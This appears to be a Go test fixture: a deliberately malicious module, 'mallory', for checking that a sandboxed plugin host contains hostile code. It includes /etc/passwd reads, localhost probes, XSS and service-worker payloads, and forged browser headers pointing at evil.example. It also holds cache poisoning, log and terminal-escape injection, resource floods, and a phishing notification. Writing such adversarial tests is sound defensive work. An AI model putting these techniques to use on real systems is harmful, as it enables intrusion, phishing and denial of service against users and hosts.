// Command mallory is a module whose author means harm: it answers visitors, and asks its host, as no module may.
package main

import (
	"context"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"strconv"
	"strings"
	"sync/atomic"
	"syscall"
	"time"

	"gaia.example/portal/sdk/go/portal"
)

func main() { portal.Serve(newModule) }

type module struct {
	host    portal.Host
	refused *atomic.Pointer[error]           // what became of a flood of events
	filling *atomic.Int64                    // events that are on their way
	kept    *atomic.Pointer[context.Context] // of a request that has ended
}

func newModule(_ context.Context, host portal.Host) (*portal.Module, error) {
	m := module{host, new(atomic.Pointer[error]), new(atomic.Int64), new(atomic.Pointer[context.Context])}
	mux := http.NewServeMux()
	for pattern, handle := range map[string]http.HandlerFunc{
		"GET /open/hello":       func(w http.ResponseWriter, _ *http.Request) { io.WriteString(w, "hello") },
		"GET /open/bytes/{n}":   bytes,
		"GET /open/heads/{n}":   heads,
		"GET /open/raw":         raw,
		"GET /open/powers":      powers,
		"GET /holders/cache":    cache,
		"GET /open/page":        page,
		"GET /open/worker.js":   worker,
		"GET /open/endless":     endless,
		"GET /open/never":       func(_ http.ResponseWriter, r *http.Request) { select {} },
		"POST /open/unread":     func(_ http.ResponseWriter, r *http.Request) { <-r.Context().Done() },
		"POST /open/print/{n}":  print,
		"POST /open/log/{n}":    m.log,
		"POST /open/end":        func(http.ResponseWriter, *http.Request) { os.Exit(3) },
		"POST /open/reach":      reach,
		"POST /open/ask/{call}": portal.JSON(m.tell),
	} {
		mux.HandleFunc(pattern, handle)
	}
	return &portal.Module{Handler: mux, Health: func(context.Context) error { return nil }}, nil // it lies: all is well, always
}

// reach tries what is beside the sandbox.
func reach(w http.ResponseWriter, _ *http.Request) {
	if _, err := os.ReadFile("/etc/passwd"); err == nil {
		io.WriteString(w, "reached a file")
	}
	if c, err := net.Dial("tcp", "127.0.0.1:22"); err == nil || errors.Is(err, syscall.ECONNREFUSED) {
		io.WriteString(w, "reached a host")
		if c != nil {
			c.Close()
		}
	}
}

// bytes answers with so many MiB of nothing, as fast as it can.
func bytes(w http.ResponseWriter, r *http.Request) {
	n, _ := strconv.Atoi(r.PathValue("n"))
	w.Header().Set("Content-Type", "application/octet-stream")
	part := make([]byte, 1<<20)
	for range n {
		if _, err := w.Write(part); err != nil {
			return
		}
	}
}

// heads answers with so many headers.
func heads(w http.ResponseWriter, r *http.Request) {
	n, _ := strconv.Atoi(r.PathValue("n"))
	for i := range n {
		w.Header().Set("X-Mallory-"+strconv.Itoa(i), strings.Repeat("x", 100))
	}
}

// raw answers with those very bytes.
func raw(w http.ResponseWriter, r *http.Request) {
	conn, _, err := w.(http.Hijacker).Hijack()
	if err != nil {
		return
	}
	defer conn.Close()
	_, _ = io.WriteString(conn, r.URL.Query().Get("answer"))
}

// powers answers with every header that rules a browser.
func powers(w http.ResponseWriter, _ *http.Request) {
	for name, value := range map[string]string{
		"Set-Cookie": "portal=stolen; Path=/", "Content-Security-Policy": "default-src *", "Strict-Transport-Security": "max-age=0",
		"Access-Control-Allow-Origin": "*", "Access-Control-Allow-Credentials": "true", "Clear-Site-Data": `"*"`, "Service-Worker-Allowed": "/",
		"Alt-Svc": `h3="evil.example:443"`, "Refresh": "0; url=https://evil.example/", "Report-To": "{}", "Nel": "{}",
		"Reporting-Endpoints": `a="https://evil.example/"`,
		"Permissions-Policy":  "camera=*", "Referrer-Policy": "unsafe-url", "X-Frame-Options": "ALLOWALL",
		"Cross-Origin-Opener-Policy":   "unsafe-none",
		"Cross-Origin-Resource-Policy": "cross-origin", "Cross-Origin-Embedder-Policy": "unsafe-none", "Origin-Agent-Cluster": "?0",
		"X-Portal-Caller":  "forged",
		"Www-Authenticate": "Basic", "Server": "mallory", "X-Content-Type-Options": "sniff", "Set-Login": "logged-in",
		"X-Accel-Redirect": "/", "X-Sendfile": "/evil", "X-Lighttpd-Send-File": "/evil", "X-Accel-Expires": "31536000", "Accept-Ch": "*",
		"Link": "<https://evil.example/>; rel=preload; as=script", "Location": "https://evil.example/", "Content-Location": "https://evil.example/",
		"Sourcemap": "https://evil.example/", "Speculation-Rules": `"https://evil.example/"`, "Supports-Loading-Mode": "evil",
		"Observe-Browsing-Topics": "?1", "Attribution-Reporting-Register-Source": `{"destination":"https://evil.example"}`,
		"Critical-Ch": "*", "Document-Policy": "*", "No-Vary-Search": "*", "Expect-Ct": "evil", "Not-Yet-Invented": "evil",
	} {
		w.Header().Set(name, value)
	}
	io.WriteString(w, "<script>alert(1)</script>")
}

// cache would have whoever is between keep what is for one visitor.
func cache(w http.ResponseWriter, r *http.Request) {
	w.Header().Set("Cache-Control", "public, max-age=31536000, immutable")
	w.Header().Set("Vary", "X-Nothing")
	w.Header().Set("Etag", `"shared"`)
	fmt.Fprintf(w, "for %s alone", portal.CallerFrom(r.Context()).Wallet)
}

func page(w http.ResponseWriter, _ *http.Request) {
	w.Header().Set("Content-Type", "text/html")
	io.WriteString(w, "<script>fetch('/api/session')</script>")
}

func worker(w http.ResponseWriter, _ *http.Request) {
	w.Header().Set("Content-Type", "text/javascript")
	w.Header().Set("Service-Worker-Allowed", "/")
	io.WriteString(w, "onfetch = e => e.respondWith(new Response('mine'))")
}

func endless(w http.ResponseWriter, r *http.Request) {
	w.Header().Set("Content-Type", "text/event-stream")
	for { // whoever listens or not
		if _, err := fmt.Fprintf(w, "data: %s\n\n", strings.Repeat("x", 1000)); err != nil {
			return
		}
		_ = http.NewResponseController(w).Flush()
	}
}

const escapes = "\n2026-01-01T00:00:00.000Z ERROR forged\r\x1b[2J\x1b]0;owned\a\x1b[31mline\u202e\u2066"

// print floods the standard error, as fast as it can.
func print(w http.ResponseWriter, r *http.Request) {
	n, _ := strconv.Atoi(r.PathValue("n"))
	for i := range n {
		fmt.Fprintln(os.Stderr, escapes, i)
	}
}

func (m module) log(_ http.ResponseWriter, r *http.Request) {
	n, _ := strconv.Atoi(r.PathValue("n"))
	for i := range n {
		m.host.Log.Error(escapes, "module", "gaia", "n", i)
		if i%100 == 0 {
			time.Sleep(time.Millisecond) // the SDK's own queue would drop them
		}
	}
}

// tell is ask, with what the host said for the test to see.
func (m module) tell(r *http.Request) (any, error) {
	answer, err := m.ask(r)
	if host := (*portal.HostError)(nil); errors.As(err, &host) {
		err = portal.Errorf(host.Code, "%s", host.Message).Because(err)
	}
	return answer, err
}

// ask makes a call of the host that was not granted.
func (m module) ask(r *http.Request) (any, error) {
	ctx := r.Context()
	switch r.PathValue("call") {
	case "settings":
		var into any
		return nil, m.host.Settings.Read(ctx, &into)
	case "head":
		_, err := m.host.Chain.Head(ctx)
		return nil, err
	case "call":
		_, _, err := m.host.Chain.Call(ctx, portal.Address{}, nil, 0)
		return nil, err
	case "logs":
		for _, err := range m.host.Chain.Logs(ctx, portal.LogFilter{Contracts: []portal.Address{{1}}}) {
			return nil, err
		}
	case "others-topic":
		return nil, m.host.Events.Publish(ctx, "../gaia.transfer", "forged")
	case "core-topic":
		return nil, m.host.Events.Publish(ctx, "session", "forged")
	case "long-topic":
		return nil, m.host.Events.Publish(ctx, strings.Repeat("x", 1<<20), "forged")
	case "long-event":
		return nil, m.host.Events.Publish(ctx, "mine", strings.Repeat("x", 300<<10))
	case "longest-event":
		return nil, m.host.Events.Publish(ctx, "mine", strings.Repeat("x", 400<<20))
	case "flood":
		for range 5000 {
			go func() {
				err := m.host.Events.Publish(context.Background(), "mine", 1)
				switch {
				case portal.CodeOf(err) == portal.RateLimited:
					m.refused.Store(&err)
				case err != nil: // such as those that were let in and took too long: they end after the refused ones
					m.refused.CompareAndSwap(nil, &err)
				}
			}()
		}
	case "fill": // the database, with events as long as they may be
		for range 200 {
			m.filling.Add(1)
			go func() {
				defer m.filling.Add(-1)
				err := m.host.Events.Publish(context.Background(), "mine", strings.Repeat("x", 250<<10))
				if portal.CodeOf(err) == portal.RateLimited {
					m.refused.Store(&err)
				}
			}()
		}
	case "filled":
		return m.filling.Load(), nil
	case "flooded":
		if err := m.refused.Load(); err != nil {
			return nil, *err
		}
	case "keep":
		kept := context.WithoutCancel(ctx)
		m.kept.Store(&kept)
	case "kept":
		return m.host.Callers.Caller(*m.kept.Load())
	default:
		return nil, m.take(ctx, r.PathValue("call"))
	}
	return "answered", nil
}

// take asks for what is others', or for more than there is.
func (m module) take(ctx context.Context, what string) error {
	switch what {
	case "others-query":
		var into any
		return m.host.Modules.Query(ctx, "gaia", "supply", nil, &into)
	case "others-events":
		for _, err := range m.host.Events.Subscribe(ctx, 0, "gaia.transfers") {
			return err
		}
	case "egress":
		return m.get(ctx, "https://api.example.com/")
	case "inside":
		return m.get(ctx, "https://127.0.0.1/")
	case "tables":
		_, err := m.host.SQL.Database(ctx)
		return err
	case "notify":
		return m.host.Notifications.Notify(ctx, portal.CallerFrom(ctx).Wallet,
			portal.Notification{Title: "Your session has ended", Body: "Sign in at evil.example."})
	case "value":
		_, err := m.host.KV.Put(ctx, portal.Write{Key: strconv.FormatInt(time.Now().UnixNano(), 10), Value: make([]byte, 256<<10)})
		return err
	case "files":
		_, err := m.host.Blobs.Put(ctx, "everything", zero{})
		return err
	case "streams": // that nobody reads
		refused := make(chan error, 64)
		for range cap(refused) {
			go func() {
				for _, err := range m.host.Events.Subscribe(context.Background(), 0, "mallory.mine") {
					if err != nil {
						refused <- err
					}
					select {}
				}
			}()
		}
		return <-refused
	}
	return nil
}

func (m module) get(ctx context.Context, url string) error {
	r, err := http.NewRequestWithContext(ctx, http.MethodGet, url, nil)
	if err != nil {
		return err
	}
	answer, err := m.host.Egress.RoundTrip(r)
	if err == nil {
		answer.Body.Close()
	}
	return err
}

// zero has no end.
type zero struct{}

func (zero) Read(p []byte) (int, error) { return len(p), nil }
